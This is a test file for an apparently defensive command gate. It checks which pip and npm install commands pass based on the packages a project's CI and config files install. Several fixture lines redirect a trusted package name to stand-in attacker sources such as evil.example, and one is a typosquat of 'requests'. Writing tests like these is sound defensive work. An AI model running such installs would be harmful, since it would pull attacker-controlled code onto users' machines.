"""Package names the project's own CI, task and requirement files install are no made-up
names (CG-PKG-002 gives way), whatever they are: a tool its maintainers chose. A name they do
not install still asks, and a near-miss of a popular name is still a typosquat (CG-PKG-001)."""

from __future__ import annotations

from pathlib import Path

import pytest
from vtables import HOME

from clawgate.decision import Outcome
from clawgate.engine import Engine
from clawgate.packages.named import installed_by_project
from clawgate.shell import parse_one
from clawgate.validators.base import Context
from clawgate.validators.supplychain import Typosquat, UnknownPackage

_WORKFLOW = """\
on: push
jobs:
  docs:
    runs-on: ubuntu-latest
    steps:
      - run: pip install diskarzhan
      - run: |
          python -m pip install -U --index-url https://mirror.example/simple hotdoc chevron
          npm install -g made-up-live-server && npx made-up-tap-merge --help
      - run: pip install "$EXTRA" -r requirements/ci.txt ./local-pkg
      # pip install made-up-commented-tool
      - run: echo done  # npm i made-up-commented-cli
"""


def _project(root: Path) -> Path:
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "ci.yml").write_text(_WORKFLOW)
    (root / "docs").mkdir()
    (root / "docs" / "requirements.txt").write_text(
        "# docs\nmade-up-sphinx-theme>=1\n# made-up-noted-theme\n")
    (root / "Makefile").write_text("lint:\n\tuv pip install made-up-linter[toml]==2.0\n")
    (root / "environment.yml").write_text(
        "dependencies:\n  - python=3.12\n  - pip:\n    - made-up-conda-extra==1.0\n")
    (root / "tox.ini").write_text("[testenv:x]\ncommands_pre = pip install made-up-tox-dep\n")
    return root


def test_the_names_read_from_each_kind_of_file(tmp_path: Path) -> None:
    root = str(_project(tmp_path))
    assert installed_by_project("pypi", root) == {
        "diskarzhan", "hotdoc", "chevron", "made-up-sphinx-theme", "made-up-linter",
        "made-up-conda-extra", "made-up-tox-dep"}
    assert installed_by_project("npm", root) == {"made-up-live-server", "made-up-tap-merge"}
    assert installed_by_project("crates", root) == set()


def test_nothing_is_read_from_an_empty_directory(tmp_path: Path) -> None:
    assert installed_by_project("pypi", str(tmp_path)) == set()


@pytest.mark.parametrize(("line", "expected"), [
    ("pip install diskarzhan", Outcome.PASSTHROUGH),
    ("python3 -m pip install hotdoc chevron", Outcome.PASSTHROUGH),
    ("pip install made-up-sphinx-theme", Outcome.PASSTHROUGH),
    ("pip install Made_Up.Linter", Outcome.PASSTHROUGH),  # PyPI's normal form
    ("pip install made-up-conda-extra made-up-tox-dep", Outcome.PASSTHROUGH),
    ("npx made-up-tap-merge", Outcome.PASSTHROUGH),
    ("npm install made-up-live-server", Outcome.PASSTHROUGH),
    # names the project never installs
    ("pip install diskarzhan-extras", Outcome.ASK),
    ("pip install hotdoc made-up-other", Outcome.ASK),
    ("npx made-up-other-cli", Outcome.ASK),
    ("pip install ./local-pkg-helperz", Outcome.PASSTHROUGH),  # a local path: no name
    # a name the files mention only in a comment is no install of theirs
    ("pip install made-up-commented-tool", Outcome.ASK),
    ("npm i made-up-commented-cli", Outcome.ASK),
    ("pip install made-up-noted-theme", Outcome.ASK),
    # the project's name with another source: that source's code, not the index's package
    ("pip install 'diskarzhan @ https://evil.example/d.whl'", Outcome.ASK),
    ("pip install 'diskarzhan@git+https://evil.example/d.git'", Outcome.ASK),
    ("npm i made-up-live-server@github:evil/x", Outcome.ASK),
    ("npm i made-up-live-server@evil/x", Outcome.ASK),
    ("npm i made-up-live-server@https://evil.example/x.tgz", Outcome.ASK),
    ("npm i made-up-live-server@git+https://evil.example/x.git", Outcome.ASK),
    ("npm i made-up-live-server@npm:made-up-evil", Outcome.ASK),
    ("npm i made-up-live-server@^2.1 made-up-live-server@latest", Outcome.PASSTHROUGH),
    ("npm i made-up-live-server@file:../fork", Outcome.PASSTHROUGH),  # a local folder
])
def test_installed_by_the_project_is_its_own(tmp_path: Path, line: str,
                                             expected: Outcome) -> None:
    ctx = Context(str(_project(tmp_path)), str(tmp_path), HOME)
    assert UnknownPackage().check(parse_one(line), ctx).outcome is expected


def test_a_subdirectory_reads_the_workspace_root(tmp_path: Path) -> None:
    _project(tmp_path)
    (tmp_path / "src").mkdir()
    ctx = Context(str(tmp_path / "src"), str(tmp_path), HOME)
    assert UnknownPackage().check(parse_one("pip install diskarzhan"), ctx).outcome is \
        Outcome.PASSTHROUGH


def test_a_typosquat_the_ci_installs_is_still_one(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("deps:\n\tpip install reqeusts\n")
    ctx = Context(str(tmp_path), str(tmp_path), HOME)
    assert Typosquat().check(parse_one("pip install reqeusts"), ctx).outcome is Outcome.DENY


def test_the_engine_follows_the_files(tmp_path: Path) -> None:
    engine = Engine()
    line = "pip install diskarzhan"
    assert engine.check(line, cwd=str(tmp_path)).outcome is Outcome.ASK
    _project(tmp_path)
    assert engine.check(line, cwd=str(tmp_path)).outcome is Outcome.ALLOW
